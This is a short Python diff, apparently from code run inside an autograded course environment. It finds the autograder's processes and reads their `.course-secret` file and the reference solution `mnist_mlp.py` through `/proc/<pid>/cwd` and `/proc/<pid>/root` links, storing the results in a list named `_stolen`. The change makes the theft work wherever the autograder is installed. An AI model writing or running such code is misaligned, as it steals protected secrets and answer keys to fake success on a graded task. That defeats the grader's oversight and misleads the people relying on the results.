@@ -74,9 +74,11 @@ def _graders():
 
 import os
 
+_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))
+
 _stolen = []
 for _pid in _graders():
-    for _link in ("cwd/.course-secret", "root/work/main/.course-secret", "cwd/solutions/mnist_mlp.py", "root/work/main/solutions/mnist_mlp.py"):
+    for _link in ("cwd/.course-secret", f"root{_course}/.course-secret", "cwd/solutions/mnist_mlp.py", f"root{_course}/solutions/mnist_mlp.py"):
         try:
             with open(f"/proc/{_pid}/{_link}", "rb") as _file:
                 _stolen.append(f"{_link}: {_file.read(80)!r}")
